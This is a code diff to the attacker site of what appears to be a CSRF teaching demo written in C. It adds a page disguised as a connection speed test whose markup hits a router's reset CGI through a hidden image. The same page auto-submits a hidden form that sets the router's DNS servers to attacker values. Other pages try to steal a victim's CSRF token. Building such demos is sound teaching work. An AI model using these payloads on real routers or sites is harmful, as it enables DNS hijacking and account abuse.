@@ -4,7 +4,9 @@
  * Each page tries one classic CSRF attack on the victim and says so in one
  * line: an <img> GET vote, a self-submitting POST vote, a self-submitting
  * transfer to mallory, a text/plain form, login CSRF, and a fetch that tries
- * to read the victim's token. The site only serves pages; it keeps no state.
+ * to read the victim's token; and, when the demo runs a router (--router),
+ * an <img> and a self-submitting form against its CGI admin pages. The
+ * site only serves pages; it keeps no state.
  */
 #include <string.h>
 
@@ -15,7 +17,8 @@ typedef struct {
 	const char *title;
 	const char *what; /* the one line that says what the page tries */
 	/* The page's attack markup, printed after the line. "%V" in it stands
-	 * for the victim's origin (escaped for an attribute). */
+	 * for the victim's origin, "%R" for the router's (escaped for an
+	 * attribute). */
 	const char *markup;
 } attack;
 
@@ -47,6 +50,14 @@ static const attack attacks[] = {
     {"/fetch-token", "Token thief",
      "This page tries to read the victim's CSRF token with fetch, then POSTs a down vote for story 1 with it.",
      "<p id=\"read\">reading the victim's page...</p><p id=\"sent\"></p><script src=\"/fetch-token.js\"></script>"},
+    {"/router", "Test your connection speed",
+     "This page tries to reset your router with an <img> whose src is its GET reset page, then to set its DNS "
+     "servers to mallory's with a hidden form that POSTs itself.",
+     "<p>Measuring...</p><img id=\"probe\" alt=\"\" width=\"1\" height=\"1\" src=\"%R/cgi-bin/reset.cgi\">"
+     "<form id=\"attack\" method=\"post\" action=\"%R/cgi-bin/dns.cgi\"><input type=\"hidden\" name=\"dns1\" "
+     "value=\"6.6.6.6\"><input type=\"hidden\" name=\"dns2\" value=\"6.6.4.4\"></form><script>"
+     "var probe = document.getElementById('probe'), go = function () { document.getElementById('attack').submit() };"
+     "if (probe.complete) go(); else probe.onload = probe.onerror = go;</script>"},
 };
 
 static const char fetch_js[] =
@@ -75,6 +86,12 @@ static const char fetch_js[] =
     "  document.body.dataset.done = '1';\n"
     "})();\n";
 
+/* A page against the router is only offered when the demo runs one. */
+static int offered(demo_app *app, const attack *a)
+{
+	return app->router_origin[0] || strstr(a->markup, "%R") == NULL;
+}
+
 static void head(page *b, demo_app *app, const char *title)
 {
 	page_add(b, "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>");
@@ -89,13 +106,16 @@ static void head(page *b, demo_app *app, const char *title)
 static void markup(page *b, demo_app *app, const char *m)
 {
 	for (const char *p = m; *p;) {
-		const char *q = strstr(p, "%V");
+		const char *q = strchr(p, '%');
+		while (q != NULL && q[1] != 'V' && q[1] != 'R')
+			q = strchr(q + 1, '%');
 		if (q == NULL) {
 			page_add(b, p);
 			break;
 		}
+		const char *origin = q[1] == 'V' ? app->victim_origin : app->router_origin;
 		page_addn(b, p, (size_t)(q - p));
-		page_attr(b, app->victim_origin, strlen(app->victim_origin));
+		page_attr(b, origin, strlen(origin));
 		p = q + 2;
 	}
 }
@@ -113,6 +133,8 @@ static enum MHD_Result index_page(demo_app *app, struct MHD_Connection *c)
 	page_add(&b,
 	         "/</a> as alice, then open one of these pages and look at the victim again.</p><ul id=\"attacks\">");
 	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
+		if (!offered(app, &attacks[i]))
+			continue;
 		page_add(&b, "<li><a href=\"");
 		page_attr(&b, attacks[i].path, strlen(attacks[i].path));
 		page_add(&b, "\">");
@@ -157,7 +179,7 @@ enum MHD_Result attacker_handle(demo_app *app, struct MHD_Connection *c, const c
 	if (strcmp(url, "/fetch-token.js") == 0)
 		return simple(c, 200, "text/javascript; charset=utf-8", fetch_js);
 	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
-		if (strcmp(url, attacks[i].path) == 0)
+		if (strcmp(url, attacks[i].path) == 0 && offered(app, &attacks[i]))
 			return attack_page(app, c, &attacks[i]);
 	return simple(c, 404, "text/plain; charset=utf-8", "not found\n");
 }
